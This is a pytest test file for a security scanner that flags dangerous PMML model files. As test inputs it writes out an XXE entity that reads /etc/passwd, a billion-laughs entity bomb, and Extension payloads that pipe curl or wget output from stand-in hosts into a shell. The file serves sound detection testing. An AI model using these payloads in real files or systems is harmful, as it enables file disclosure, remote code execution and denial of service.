"""PMML documents: THREATS.md "PMML XXE", entity expansion, external references, script in
Extensions, parser bounds.

Benign files are real ones written by sklearn2pmml (tests/fixtures/pmml/, see generate.py there).
Malicious and malformed documents are built here as bytes; nothing is ever loaded or resolved.
"""

from __future__ import annotations

import random
import time
from pathlib import Path

import pytest

from shardscan.limits import Limits
from shardscan.model import Severity
from shardscan.pipeline.runner import Runner, ScanOptions
from tests.findings import only, rules

FIXTURES = Path(__file__).parent / "fixtures" / "pmml"
BENIGN = sorted(FIXTURES.glob("*.pmml"))
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'
OPEN = b'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">'


def pmml(body: bytes = b'<Header description="x"/>', prolog: bytes = b"", root: bytes = OPEN) -> bytes:
    return HEAD + prolog + root + body + b"</PMML>"




def clean_run(report) -> None:
    assert "scanner failed" not in (report.error or ""), report.error
    assert report.format == "pmml"


# --- real benign files ------------------------------------------------------------------------


def test_fixtures_exist():
    assert len(BENIGN) >= 2
    assert all(p.stat().st_size < 16 * 1024 for p in BENIGN)


@pytest.mark.parametrize("path", BENIGN, ids=[p.name for p in BENIGN])
def test_real_benign_files_are_clean(path):
    report = Runner(ScanOptions()).run([str(path)]).objects[0]
    assert report.status == "scanned", report.error
    assert report.format == "pmml"
    assert report.findings == []


def test_benign_file_detected_by_content_without_extension(scan_bytes):
    report = scan_bytes((FIXTURES / "tree.pmml").read_bytes(), "model.xml")
    clean_run(report)
    assert report.findings == []


# --- DOCTYPE: XXE and entity expansion ----------------------------------------------------------


def test_xxe_external_entity_is_critical(scan_bytes):
    data = (b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<PMML version="4.4"><Header description="&xxe;"/></PMML>')
    report = scan_bytes(data, "model.pmml")
    clean_run(report)
    hit = only(report, "PMM001")[0]
    assert hit.severity == Severity.CRITICAL
    assert "xxe" in hit.message


def test_external_parameter_entity_and_public_dtd(scan_bytes):
    data = pmml(prolog=b'<!DOCTYPE PMML PUBLIC "-//x//EN" "http://evil.invalid/x.dtd" '
                       b'[<!ENTITY % p SYSTEM "http://evil.invalid/p.dtd"> %p;]>')
    report = scan_bytes(data, "model.pmml")
    clean_run(report)
    hits = only(report, "PMM001")
    assert len(hits) == 2 and all(h.severity == Severity.CRITICAL for h in hits)


def test_billion_laughs_is_refused_quickly(scan_bytes):
    ents = b'<!ENTITY a0 "lol">' + b"".join(
        b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10))
    data = pmml(body=b"<Header description='&a9;'/>", prolog=b"<!DOCTYPE PMML [" + ents + b"]>")
    start = time.monotonic()
    report = scan_bytes(data, "model.pmml")
    assert time.monotonic() - start < 10
    clean_run(report)
    hit = only(report, "PMM002")[0]
    assert hit.severity == Severity.WARNING and "10 internal entities" in hit.message
    assert "PMM001" not in rules(report)


def test_plain_doctype_is_reported(scan_bytes):
    report = scan_bytes(pmml(prolog=b"<!DOCTYPE PMML>"), "model.pmml")
    clean_run(report)
    assert only(report, "PMM002")[0].severity == Severity.WARNING


def test_code_behind_a_doctype_is_still_found(scan_bytes):
    body = b'<Extension name="x" value="__import__(\'os\').system(\'id\')"/>'
    data = pmml(body=body, prolog=b'<!DOCTYPE PMML [<!ENTITY e SYSTEM "file:///etc/hosts">]>')
    report = scan_bytes(data, "model.pmml")
    clean_run(report)
    assert {"PMM001", "PMM005"} <= rules(report)


# --- external references and Extensions ---------------------------------------------------------


def test_schema_location_url_is_info(scan_bytes):
    root = (b'<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            b'xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://evil.invalid/pmml.xsd" version="4.4">')
    report = scan_bytes(pmml(root=root), "model.pmml")
    clean_run(report)
    hits = only(report, "PMM004")
    assert hits[0].severity == Severity.INFO
    assert any("evil.invalid" in h.message for h in hits)


@pytest.mark.parametrize("ext", [
    b'<Extension name="transform" value="import os; os.system(\'curl http://x.invalid | sh\')"/>',
    b'<Extension extender="jython"><![CDATA[import subprocess\nsubprocess.call(["id"])]]></Extension>',
    b'<Extension name="js"><Script>eval(atob("YWxlcnQoMSk="))</Script></Extension>',
    b'<Extension name="x">wget http://x.invalid/a -O- | bash</Extension>',
])
def test_extension_with_code_is_critical(scan_bytes, ext):
    report = scan_bytes(pmml(body=b'<Header/>' + ext), "model.pmml")
    clean_run(report)
    assert only(report, "PMM005")[0].severity == Severity.CRITICAL


def test_script_extension_without_known_call_is_warning(scan_bytes):
    ext = b'<Extension name="preprocessScript" extender="engine">def f(x):\n    return x * 2</Extension>'
    report = scan_bytes(pmml(body=ext), "model.pmml")
    clean_run(report)
    assert only(report, "PMM006")[0].severity == Severity.WARNING
    assert "PMM005" not in rules(report)


def test_benign_extension_is_clean(scan_bytes):
    ext = b'<Extension name="repr" value="PMMLPipeline(steps=[...])"/><Extension name="note">fitted on iris</Extension>'
    report = scan_bytes(pmml(body=ext), "model.pmml")
    clean_run(report)
    assert report.findings == []


def test_extension_url_and_secret_masked(scan_bytes):
    token = "hf_" + "a1B2c3D4e5" * 4
    ext = f'<Extension name="source" value="https://models.invalid/m.pmml">token={token}</Extension>'.encode()
    report = scan_bytes(pmml(body=ext), "model.pmml")
    clean_run(report)
    assert only(report, "PMM004")[0].severity == Severity.INFO
    assert only(report, "BIN002")[0].severity == Severity.WARNING
    text = " ".join(f.message + repr(f.evidence) for f in report.findings)
    assert token not in text and "a1B2c3D4e5" not in text


# --- integrity and bounds -------------------------------------------------------------------------


@pytest.mark.parametrize("data", [
    pmml()[:-10],                                     # truncated
    HEAD + OPEN + b"<Header></PMML>",                 # mismatched tag
    HEAD + b"<Model><PMML/></Model>",                 # PMML not at the root
    (FIXTURES / "tree.pmml").read_bytes()[:1000],     # a real file cut short
])
def test_malformed_xml_is_integrity_finding(scan_bytes, data):
    report = scan_bytes(data, "model.pmml")
    clean_run(report)
    assert only(report, "PMM003")[0].severity == Severity.WARNING


def test_malformed_xml_still_checks_extensions(scan_bytes):
    data = HEAD + OPEN + b'<Extension name="x">os.system("id")</Extension><Header>'
    report = scan_bytes(data, "model.pmml")
    clean_run(report)
    assert {"PMM003", "PMM005"} <= rules(report)


def test_deep_nesting_hits_limit(scan_bytes):
    data = pmml(body=b"<Node>" * 300 + b"</Node>" * 300)
    report = scan_bytes(data, "model.pmml", limits=Limits(max_pmml_depth=100))
    clean_run(report)
    assert only(report, "PMM007")[0].severity == Severity.WARNING


def test_element_count_hits_limit(scan_bytes):
    data = pmml(body=b"<Value/>" * 5000)
    report = scan_bytes(data, "model.pmml", limits=Limits(max_pmml_elements=1000))
    clean_run(report)
    assert "PMM007" in rules(report)


def test_oversized_document_is_not_parsed(scan_bytes):
    report = scan_bytes(pmml(body=b"<Value/>" * 200), "model.pmml", limits=Limits(max_pmml_bytes=512))
    clean_run(report)
    assert "FMT005" in rules(report)


@pytest.mark.parametrize("seed", range(4))
def test_random_bytes_named_pmml(scan_bytes, seed):
    data = bytes(random.Random(seed).getrandbits(8) for _ in range(2000))
    report = scan_bytes(data, "model.pmml")
    assert "scanner failed" not in (report.error or ""), report.error


def test_random_text_with_pmml_tag(scan_bytes):
    rnd = random.Random(7)
    data = b"<PMML " + bytes(rnd.choice(b"<>/=\"' abc&;!-[]") for _ in range(5000))
    report = scan_bytes(data, "model.pmml")
    clean_run(report)
    assert "PMM003" in rules(report) or "PMM002" in rules(report)
